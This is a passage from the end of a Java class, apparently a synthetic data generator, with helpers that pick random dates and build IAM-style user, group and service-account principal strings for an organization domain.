  private Instant daysAfter(Random r, int min, int max) {
    return now.plus(Duration.ofDays(min + r.nextInt(max - min + 1))).truncatedTo(ChronoUnit.DAYS);
  }

  private static Instant between(Random r, Instant from, Instant to) {
    long span = to.getEpochSecond() - from.getEpochSecond();
    return span <= 0 ? from : from.plusSeconds((long) (r.nextDouble() * span));
  }

  private static String user(String name) {
    return "user:" + name + "@" + Organization.DOMAIN;
  }

  private static String group(String name) {
    return "group:" + name + "@" + Organization.DOMAIN;
  }

  private static String rotator() {
    return "serviceAccount:npm-rotator@" + Organization.CENTRAL_ID + ".iam.gserviceaccount.com";
  }
}
